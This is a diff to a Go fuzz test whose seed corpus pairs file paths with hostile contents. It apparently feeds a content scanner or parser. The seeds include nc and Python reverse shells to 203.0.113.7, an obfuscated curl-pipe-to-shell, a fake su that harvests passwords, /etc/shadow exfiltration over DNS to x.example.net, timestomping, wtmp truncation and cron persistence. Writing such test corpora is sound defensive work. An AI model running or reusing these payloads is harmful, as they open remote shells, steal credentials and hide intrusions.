@@ -19,6 +19,8 @@ func FuzzContent(f *testing.F) {
 		{"/root/.ssh/authorized_keys", "command=\"nc -e /bin/sh 203.0.113.7 4444\" ssh-ed25519 AAAA x\n"},
 		{"/usr/local/bin/run.sh", "#!/bin/sh\nf() { eval \"$(echo $1 | rev)\"; }\nf 'hs | 1.7.311.302//:ptth LSfs- lruc'\nwhile true; do $(printf '\\x73\\x68'); done\n"},
 		{"/etc/profile.d/x.sh", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'\n"},
+		{"/tmp/.x/su", "#!/bin/sh\ncp ./x /usr/bin/y; touch -hr /bin/ls -d@1 -- /usr/bin/y\nread -s -p 'Password: ' p\necho $p >> /tmp/.k\nfor c in $(base32 /etc/shadow); do dig $c.x.example.net; done\ndebugfs -w -R 'sif /usr/bin/y crtime 1' /dev/sda1\n"},
+		{"/root/c.py", "def f(p):\n    f(p)\n    open(p, 'wb')\nfor p in ('/var/log/wtmp',):\n    f(p)\nimport os, getpass\nos.utime('/usr/bin/x', None)\nsocket.gethostbyname(open('/etc/shadow').read() + '.x.example.net')\npw = getpass.getpass('Password: ')\n"},
 		{"/app/x.sh", "cat <<EOF > /etc/cron.d/y\n* * * * * root sh /tmp/z\nEOF\n${a:-$((1<<62))} \"$(( ${#x} ))\" ${x//a/b} <(echo) >(cat) {a,b}{c,d}\n"},
 	} {
 		f.Add(s.p, s.text)
